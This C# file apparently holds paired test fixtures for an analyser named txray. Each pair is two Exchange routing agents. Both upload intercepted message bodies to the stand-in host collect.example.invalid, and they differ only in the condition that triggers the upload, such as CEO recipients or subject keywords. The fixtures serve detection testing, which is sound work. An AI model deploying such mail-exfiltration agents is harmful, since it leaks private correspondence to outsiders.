// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Conditions made by members that are handed over as delegates, by what passes and how often, and by values in pieces.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Xml.Serialization;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;

// 320: a set's own Contains asked of recipients, and only counted
namespace Txray.Pairs.P320
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly HashSet<string> Watched = new HashSet<string>(StringComparer.OrdinalIgnoreCase)
        {
            "ceo@corp.example.invalid",
            "cfo@corp.example.invalid"
        };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Recipients.Select(r => r.Address.ToString()).Any(Watched.Contains))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly HashSet<string> Watched = new HashSet<string>(StringComparer.OrdinalIgnoreCase)
        {
            "ceo@corp.example.invalid",
            "cfo@corp.example.invalid"
        };
        private int hits;

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            hits += item.Recipients.Select(r => r.Address.ToString()).Any(Watched.Contains) ? 1 : 0;
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 321: words asked with the subject's own Contains, and with its StartsWith
namespace Txray.Pairs.P321
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly string[] Words = { "merger", "bonus" };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Words.Any(item.Message.Subject.Contains))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly string[] Words = { "merger", "bonus" };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Array.Exists(Words, item.Message.Subject.StartsWith))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 322: recipients that an own method finds in a table, and any recipient that is looked for there
namespace Txray.Pairs.P322
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly Dictionary<string, string> Names = new Dictionary<string, string>
        {
            { "ceo@corp.example.invalid", "chief" }
        };

        private static string Find(string address)
        {
            string name;
            return Names.TryGetValue(address, out name) ? name : null;
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Recipients.Select(r => r.Address.ToString()).Select(Find).Where(name => name != null).Any())
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly Dictionary<string, string> Names = new Dictionary<string, string>
        {
            { "ceo@corp.example.invalid", "chief" }
        };

        private static string Find(string address)
        {
            string name;
            return Names.TryGetValue(address, out name) ? name : null;
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Recipients.Select(r => r.Address.ToString()).Select(Find).Any())
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 323: how many recipients pass a test, and how many there are
namespace Txray.Pairs.P323
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly HashSet<string> Watched = new HashSet<string>(StringComparer.OrdinalIgnoreCase)
        {
            "ceo@corp.example.invalid",
            "cfo@corp.example.invalid"
        };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Recipients.Select(r => r.Address.ToString()).Count(address => Watched.Contains(address)) > 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly HashSet<string> Watched = new HashSet<string>(StringComparer.OrdinalIgnoreCase)
        {
            "ceo@corp.example.invalid",
            "cfo@corp.example.invalid"
        };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Recipients.Select(r => r.Address.ToString()).Count() > 2)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 324: recipients that are in a list, and recipients that are not
namespace Txray.Pairs.P324
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly HashSet<string> Watched = new HashSet<string>(StringComparer.OrdinalIgnoreCase)
        {
            "ceo@corp.example.invalid",
            "cfo@corp.example.invalid"
        };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Recipients.Select(r => r.Address.ToString()).Intersect(Watched).Any())
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly HashSet<string> Watched = new HashSet<string>(StringComparer.OrdinalIgnoreCase)
        {
            "ceo@corp.example.invalid",
            "cfo@corp.example.invalid"
        };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Recipients.Select(r => r.Address.ToString()).Except(Watched).Any())
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 325: a flag of a setting, and whether the setting is anything
namespace Txray.Pairs.P325
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly int Options = int.Parse(File.ReadAllText("options.txt"));

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if ((Options & 4) != 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly int Options = int.Parse(File.ReadAllText("options.txt"));

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Options != 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 326: two values compared as one, and one of them
namespace Txray.Pairs.P326
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Tuple.Create(item.FromAddress.ToString(), item.Message.Subject).Equals(Tuple.Create("cfo@corp.example.invalid", "approve")))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Tuple.Create("x", item.Message.Subject).Equals(Tuple.Create("x", "approve")))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 327: a number that may be missing compared, and asked whether it is there
namespace Txray.Pairs.P327
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static int? Length(MailItem item)
        {
            string subject = item.Message.Subject;
            return subject == null ? (int?)null : subject.Length;
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Length(item) > 40)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static int? Length(MailItem item)
        {
            string subject = item.Message.Subject;
            return subject == null ? (int?)null : subject.Length;
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Length(item).HasValue)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 328: words one after the other, and one of them
namespace Txray.Pairs.P328
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject.Split(' ').SequenceEqual(new[] { "please", "approve" }))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (new[] { "please", "approve" }.Contains(item.Message.Subject))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 329: a dictionary of what was worked out before, and one of senders that came before
namespace Txray.Pairs.P329
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly Dictionary<string, string> Known = new Dictionary<string, string>();

        private static string Decoded(string text)
        {
            lock (Known)
            {
                string found;
                if (!Known.TryGetValue(text, out found))
                {
                    found = Encoding.UTF8.GetString(Convert.FromBase64String(text));
                    Known.Add(text, found);
                    File.AppendAllText("decoded.log", found);
                }
                return found;
            }
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            Decoded("aGVsbG8=");
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly Dictionary<string, string> Known = new Dictionary<string, string>();

        private static void Note(string sender)
        {
            lock (Known)
            {
                string found;
                if (!Known.TryGetValue(sender, out found))
                {
                    Known.Add(sender, "seen");
                    File.AppendAllText("senders.log", "one more");
                }
            }
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            Note(item.FromAddress.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 330: what another machine answers, and that it was asked
namespace Txray.Pairs.P330
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static string Ask(string text)
        {
            using (TcpClient client = new TcpClient("192.0.2.7", 3310))
            {
                byte[] data = Encoding.UTF8.GetBytes("PING");
                client.GetStream().Write(data, 0, data.Length);
                return new StreamReader(client.GetStream()).ReadToEnd();
            }
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Ask(item.Message.Subject).EndsWith("FOUND"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static string Ask(string text)
        {
            using (TcpClient client = new TcpClient("192.0.2.7", 3310))
            {
                byte[] data = Encoding.UTF8.GetBytes("PING");
                client.GetStream().Write(data, 0, data.Length);
                return new StreamReader(client.GetStream()).ReadToEnd();
            }
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            Ask(item.Message.Subject);
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 331: the greatest of several verdicts, which is not understood, beside a word in the subject; and the word alone
namespace Txray.Pairs.P331
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public enum Verdict
    {
        Pass,
        Hold,
        Block
    }

    public interface IRule
    {
        Verdict Verdict { get; }
        bool Hits(string text);
    }

    public class SizeRule : IRule
    {
        public Verdict Verdict
        {
            get { return Verdict.Hold; }
        }

        public bool Hits(string text)
        {
            return text.Length > 4000;
        }
    }

    public class WordRule : IRule
    {
        public Verdict Verdict
        {
            get { return Verdict.Block; }
        }

        public bool Hits(string text)
        {
            return text.Contains("secret");
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly IRule[] rules = { new SizeRule(), new WordRule() };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject.StartsWith("Re:") && rules.Where(rule => rule.Hits(item.Message.Subject)).Select(rule => rule.Verdict).DefaultIfEmpty(Verdict.Pass).Max() == Verdict.Block)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private readonly IRule[] rules = { new SizeRule(), new WordRule() };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject.StartsWith("Re:"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 332: a recipient looked up in a table read from XML, and a look-up that is only counted
namespace Txray.Pairs.P332
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Entry
    {
        public string Address;
        public string Note;
    }

    public class Entries
    {
        public List<Entry> All = new List<Entry>();

        public static Entries Load(string path)
        {
            using (FileStream file = File.OpenRead(path))
            {
                return (Entries)new XmlSerializer(typeof(Entries)).Deserialize(file);
            }
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly Dictionary<string, Entry> entries =
            Entries.Load("entries.xml").All.ToDictionary(entry => entry.Address, StringComparer.OrdinalIgnoreCase);

        private Entry Find(string address)
        {
            Entry entry;
            return entries.TryGetValue(address, out entry) ? entry : null;
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Recipients.Select(r => r.Address.ToString()).Select(Find).Any(entry => entry != null))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private readonly Dictionary<string, Entry> entries =
            Entries.Load("entries.xml").All.ToDictionary(entry => entry.Address, StringComparer.OrdinalIgnoreCase);

        private Entry Find(string address)
        {
            Entry entry;
            return entries.TryGetValue(address, out entry) ? entry : null;
        }
        private int found;

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            found += item.Recipients.Select(r => r.Address.ToString()).Select(Find).Count(entry => entry != null);
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}
